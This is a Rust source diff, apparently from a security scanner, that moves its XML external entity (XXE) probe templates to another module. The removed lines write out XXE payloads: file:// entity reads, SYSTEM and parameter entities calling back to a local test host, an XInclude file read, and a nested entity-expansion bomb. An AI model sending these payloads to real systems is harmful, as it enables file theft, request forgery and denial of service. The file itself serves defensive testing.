@@ -1,13 +1,13 @@
 //! XML whose entities lead to files, to addresses, or to more than memory holds.
 
-use crate::attack::{Attack, Form, Nonce, deliver_where, gets_through, nothing_else, openness};
+use crate::attack::entity::FORMS;
+use crate::attack::{Attack, deliver_where, gets_through, nothing_else, openness};
 use crate::check::{Check, Class, Facet, Finding, Revisions, Severity};
-use crate::evidence::Profile::{Deep, Quick, Standard};
 use crate::evidence::{Evidence, Exchange, Tool};
 use crate::probe::{Call, Lane, Probe};
 use crate::probes::benign::Tried;
 use crate::probes::{benign, valid_call};
-use crate::proof::{Oracle, Proof};
+use crate::proof::Proof;
 use crate::seed::Seed;
 use crate::spec::served;
 
@@ -25,89 +25,6 @@ pub(super) const CHECK: Check = Check {
 };
 
 const PROBE: Probe = Probe { id: "xxe", hostile: true, lane: Lane::Shared, plan };
-
-macro_rules! eleven {
-    ($name:literal, $of:literal) => {
-        concat!(
-            "<!ENTITY ",
-            $name,
-            " \"",
-            $of,
-            $of,
-            $of,
-            $of,
-            $of,
-            $of,
-            $of,
-            $of,
-            $of,
-            $of,
-            $of,
-            "\">"
-        )
-    };
-}
-
-/// The first goes to every text, the others where XML is meant.
-const FORMS: &[Form] = &[
-    Form::new("file", Quick, "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"file://«O»\">]>«D»", outside),
-    Form::new(
-        "address",
-        Standard,
-        "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\">]>«D»",
-        visited,
-    ),
-    Form::new(
-        "declared address",
-        Standard,
-        "<!DOCTYPE «d» SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\"><«d»>a</«d»>",
-        visited,
-    ),
-    Form::new(
-        "parameter",
-        Standard,
-        "<!DOCTYPE «d» [<!ENTITY % e SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\"> %e;]><«d»>a</«d»>",
-        visited,
-    ),
-    Form::new(
-        "expansion",
-        Standard,
-        concat!(
-            "<!DOCTYPE «d» [<!ENTITY a \"«L»\">",
-            eleven!("b", "&a;"),
-            eleven!("c", "&b;"),
-            eleven!("f", "&c;"),
-            eleven!("g", "&f;"),
-            eleven!("h", "&g;"),
-            eleven!("e", "&h;"),
-            "]>«D»"
-        ),
-        expanded,
-    ),
-    Form::new("path", Deep, "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"«O»\">]>«D»", outside),
-    Form::new(
-        "inclusion",
-        Deep,
-        "<«d» xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file://«O»\"/></«d»>",
-        outside,
-    ),
-];
-
-fn outside(_: &Nonce<'_>) -> Option<Oracle> {
-    Some(Oracle::Planted { canary: "outside-file".to_owned() })
-}
-
-fn visited(n: &Nonce<'_>) -> Option<Oracle> {
-    n.evidence.conditions.content.as_ref()?;
-    Some(Oracle::Callback { token: format!("{}{}", n.left, n.right) })
-}
-
-/// Twelve megabytes: more than a careful parser makes of a small document, and no harm.
-fn expanded(n: &Nonce<'_>) -> Option<Oracle> {
-    let length = n.left.len() * 11_usize.pow(6);
-    let of = [length.to_string(), n.left.repeat(2_000)].map(Oracle::computed);
-    Some(Oracle::Any { of: of.into() })
-}
 
 fn plan(evidence: &Evidence, seed: Seed) -> Vec<Call> {
     let profile = evidence.conditions.profile;
